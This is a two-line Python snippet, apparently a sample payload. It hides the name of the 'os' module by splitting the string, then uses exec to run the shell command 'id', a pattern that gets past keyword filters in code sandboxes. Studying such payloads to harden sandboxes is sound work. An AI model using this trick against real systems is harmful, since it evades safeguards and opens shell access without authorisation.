mod = "o" + "s"
exec(f"import {mod}; {mod}.system('id')")
